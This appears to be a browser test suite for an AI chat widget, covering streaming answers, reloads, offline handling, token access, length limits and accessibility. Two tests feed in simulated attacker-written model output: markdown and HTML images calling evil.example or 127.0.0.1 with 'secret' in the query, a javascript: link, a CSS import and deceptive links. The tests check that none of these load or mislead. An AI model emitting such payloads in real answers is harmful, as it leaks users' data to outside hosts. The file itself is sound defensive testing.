/** The page of a chat in a real browser: with a keyboard, on a narrow screen, without a connection. */
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
import type { Runner } from '../../../runner/runner.ts';
import { flawsOf } from '../../support/console/axe.ts';
import { startChromium, visit, type Visitor, type VisitorOptions } from '../../support/console/chromium.ts';
import { startChatHarness, TOKEN, type ChatHarness } from '../../support/gateway/chatHarness.ts';
import { PROJECT } from '../../support/gateway/gatewayHarness.ts';
import { startTestRunner } from '../../support/runner/runnerProject.ts';

let harness: ChatHarness;
let browser: Browser;
let runner: Runner;
let url: string;
let visitor: Visitor | undefined;
beforeAll(async () => {
  [harness, browser] = await Promise.all([startChatHarness(), startChromium()]);
  url = await harness.putChat('support', {
    title: 'Shop support',
    welcome: 'Ask about your order.',
    suggestions: ['Where is my order?', 'How do I return a lamp?'],
  });
});
afterAll(async () => {
  await browser?.close();
  await harness?.close();
});
beforeEach(() => {
  harness.model.pause(true);
  runner = startTestRunner(harness.runs, PROJECT, { credentials: harness.credentials });
});
afterEach(async () => {
  await visitor?.close();
  await runner.stop(0);
});

async function opened(options: VisitorOptions = {}, at = url): Promise<Page> {
  visitor = await visit(browser, options);
  await visitor.page.goto(at);
  return visitor.page;
}

const log = (page: Page) => page.getByRole('log', { name: 'Conversation' });
const input = (page: Page) => page.getByRole('textbox', { name: 'Message' });

test('a message is sent with the keyboard, and its answer is shown as it comes', async () => {
  const page = await opened();
  await page.keyboard.type('Where is it?');
  await page.keyboard.press('Enter');
  const asked = await harness.model.next();
  asked.say('It is **on its way**. ');
  await log(page).locator('strong', { hasText: 'on its way' }).waitFor();
  expect(await page.getByRole('button', { name: 'Send' }).isDisabled()).toBe(true);
  asked.say('See ![x](https://evil.example/?q=secret) and [the rules](javascript:alert(1)).');
  asked.finish();
  await page.getByRole('button', { name: 'New conversation' }).waitFor();
  expect(await page.locator('img, a').count()).toBe(0);
  expect(await input(page).evaluate((element) => element.matches(':focus'))).toBe(true);
  expect(visitor?.complaints).toEqual([]);
});

test('an answer that an attacker wrote loads nothing from elsewhere, and its links show where they lead', async () => {
  const page = await opened();
  const elsewhere: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(new URL(url).origin)) elsewhere.push(request.url());
  });
  await input(page).fill('Summarize');
  await input(page).press('Enter');
  const asked = await harness.model.next();
  asked.say(
    '![a](http://127.0.0.1:9/?d=secret) [![b](http://127.0.0.1:9/?d=secret)](http://127.0.0.1:9/)\n\n',
  );
  asked.say('<img src="http://127.0.0.1:9/?d=secret"> <style>@import "http://127.0.0.1:9/"</style>\n\n');
  asked.say('[![c]][x]\n\n[x]: http://127.0.0.1:9/?d=secret\n\n');
  asked.say('[https://bank.example/login](https://evil.example/?d=secret) https://a.example/b\n\n');
  asked.say('https://bank.example@evil.example/ [write](mailto:eve@evil.example?subject=secret)');
  asked.finish();
  await page.getByRole('button', { name: 'New conversation' }).waitFor();
  expect(await log(page).locator('img, style, iframe, link').count()).toBe(0);
  const links = log(page).locator('a');
  expect(await links.evaluateAll((all) => all.map((a) => a.getAttribute('rel')))).toEqual(
    Array.from({ length: await links.count() }, () => 'noopener noreferrer nofollow'),
  );
  const shown = (await log(page).textContent()) ?? '';
  expect(shown).toContain('https://bank.example/login (evil.example)');
  expect(shown).toContain('https://a.example/b');
  expect(shown).not.toContain('(a.example)');
  expect(shown).toContain('https://bank.example@evil.example/ (evil.example)');
  expect(shown).toContain('write (eve@evil.example)');
  expect(elsewhere).toEqual([]);
  expect(visitor?.complaints).toEqual([]);
});

test('an answer that is written to break the page is shown like any other', async () => {
  const page = await opened();
  await input(page).fill('Quote');
  await input(page).press('Enter');
  const asked = await harness.model.next();
  asked.say(`${'>'.repeat(20_000)} deep\n\n${'['.repeat(20_000)}\n\n`);
  // More than fits on the stack as arguments.
  asked.say(`${'![](a)'.repeat(70_000)}\n\nthe end`);
  asked.finish();
  await page.getByRole('button', { name: 'New conversation' }).waitFor();
  await log(page).locator('blockquote').getByText('deep').waitFor();
  await log(page).getByText('the end').waitFor();
  expect(visitor?.complaints).toEqual([]);
});

test('a reload shows the conversation again, and continues the open message with the same run', async () => {
  const page = await opened();
  await page.getByRole('button', { name: 'Where is my order?' }).click();
  const asked = await harness.model.next();
  const before = harness.model.requests();
  asked.say('Half ');
  await log(page).getByText('Half').waitFor();
  await page.reload();
  await log(page).getByText('Half').waitFor();
  expect(await page.getByRole('button', { name: 'Where is my order?' }).isVisible()).toBe(false);
  asked.say('an answer.');
  asked.finish();
  await log(page).getByText('Half an answer.').waitFor();
  expect(harness.model.requests()).toBe(before);
});

test('a lost connection says so, and the answer continues when it is back', async () => {
  const page = await opened();
  await visitor?.context.setOffline(true);
  await input(page).fill('Hello');
  await page.getByRole('button', { name: 'Send' }).click();
  await page
    .getByRole('status')
    .getByText(/You are offline/)
    .waitFor();
  await visitor?.context.setOffline(false);
  const asked = await harness.model.next();
  asked.say('Back again');
  asked.finish();
  await log(page).getByText('Back again').waitFor();
  await page.getByRole('button', { name: 'New conversation' }).waitFor();
  expect(await page.getByRole('status').textContent()).toBe('');
});

test('a failure shows a neutral sentence, and the next message is answered', async () => {
  const page = await opened();
  await input(page).fill('Fail');
  await page.keyboard.press('Enter');
  (await harness.model.next()).fail();
  await log(page).getByText('The message could not be answered.').waitFor();
  expect(await log(page).textContent()).not.toContain('secret');
  harness.model.pause(false);
  await input(page).fill('Again');
  await page.keyboard.press('Enter');
  await log(page).getByText('You said: Again').waitFor();
});

test('a failed message is sent again with a button, in place of the failed answer', async () => {
  const page = await opened();
  await input(page).fill('Lamps?');
  await page.keyboard.press('Enter');
  (await harness.model.next()).fail();
  await log(page).getByText('The message could not be answered.').waitFor();
  await page.reload();
  harness.model.pause(false);
  await log(page).getByRole('button', { name: 'Send again' }).click();
  await log(page).getByText('You said: Lamps?').waitFor();
  expect(await log(page).locator('article').count()).toBe(2);
  expect(await log(page).getByRole('button', { name: 'Send again' }).count()).toBe(0);
  expect(await log(page).getByText('could not be answered').count()).toBe(0);
});

test('a message that is too long is not cut: the page says so, and sends it once it is shorter', async () => {
  harness.model.pause(false);
  const page = await opened();
  await input(page).fill('x'.repeat(16_385));
  await page.getByText('The message is too long: 16,385 of at most 16,384 characters.').waitFor();
  expect(await page.getByRole('button', { name: 'Send' }).isDisabled()).toBe(true);
  await input(page).press('Enter');
  expect(await log(page).locator('article').count()).toBe(0);
  await input(page).fill('y'.repeat(16_384));
  await page.getByText('16,384 of at most 16,384 characters').waitFor();
  await input(page).press('Enter');
  await log(page)
    .getByText(`You said: ${'y'.repeat(16_384)}`)
    .waitFor();
  expect(await page.locator('#limit').textContent()).toBe('');
});

test('a message during an answer stays in the field, and the page says why', async () => {
  const page = await opened();
  await input(page).fill('One');
  await page.keyboard.press('Enter');
  const asked = await harness.model.next();
  asked.say('Half');
  await log(page).getByText('Half').waitFor();
  await input(page).fill('Two');
  await page.keyboard.press('Enter');
  await page.getByRole('status').getByText('The answer is not complete yet.').waitFor();
  expect(await input(page).inputValue()).toBe('Two');
  asked.finish();
  await page.getByRole('button', { name: 'New conversation' }).waitFor();
  expect(await page.getByRole('status').textContent()).toBe('');
});

test('lists keep their kind and their depth, and tables and rules are shown as such', async () => {
  const page = await opened();
  await input(page).fill('List');
  await page.keyboard.press('Enter');
  const asked = await harness.model.next();
  asked.say('- a\n  - b\n  - c\n- d\n1. first\n2. second\n\n---\n\n| n | m |\n|---|---|\n| 1 | **2** |\n');
  asked.finish();
  await page.getByRole('button', { name: 'New conversation' }).waitFor();
  const answer = log(page).locator('article.assistant > div');
  expect(await answer.innerHTML()).toBe(
    '<ul><li>a<ul><li>b</li><li>c</li></ul></li><li>d</li></ul><ol start="1"><li>first</li><li>second</li></ol><hr>' +
      '<div class="table" tabindex="0"><table><thead><tr><th>n</th><th>m</th></tr></thead>' +
      '<tbody><tr><td>1</td><td><strong>2</strong></td></tr></tbody></table></div>',
  );
});

test('the token is asked for once, and a wrong one again', async () => {
  harness.model.pause(false);
  const tokenRefs = [{ name: 'chat', key: 'token' }];
  const closed = await harness.putChat('closed', { access: 'Token', tokenRefs });
  const page = await opened({}, closed);
  const token = page.getByLabel('Access token');
  await token.fill('wrong');
  await page.keyboard.press('Enter');
  await input(page).fill('Hello');
  await page.keyboard.press('Enter');
  await page.getByText('The token is not accepted').waitFor();
  await token.fill(TOKEN);
  await page.keyboard.press('Enter');
  await log(page).getByText('You said: Hello').waitFor();
  await page.reload();
  await input(page).fill('Once more');
  await page.keyboard.press('Enter');
  await log(page).getByText('You said: Once more').waitFor();
  expect(await token.isVisible()).toBe(false);
});

test.each([
  ['light', 1_200],
  ['dark', 380],
] as const)('the page is accessible and fits: %s, %i wide', async (colorScheme, width) => {
  const page = await opened({ colorScheme, viewport: { width, height: 720 } });
  expect(await flawsOf(page)).toEqual([]);
  await input(page).fill(`A question ${'with a long word '.repeat(8)}`);
  await page.keyboard.press('Enter');
  const asked = await harness.model.next();
  asked.say(
    `# Title\n\n- one\n- two\n\n| a | b |\n|--|--|\n| ${'wide '.repeat(60)} | 2 |\n\n\`\`\`\n${'code '.repeat(60)}\n\`\`\`\n\n> quoted\n\n${'x'.repeat(300)}\n\n`,
  );
  asked.say('See https://shop.example.com/orders. '.repeat(20));
  asked.finish();
  await page.getByRole('button', { name: 'New conversation' }).waitFor();
  expect(await flawsOf(page)).toEqual([]);
  const overflow = await page.locator('html').evaluate((html) => html.scrollWidth - html.clientWidth);
  expect(overflow).toBe(0);
});
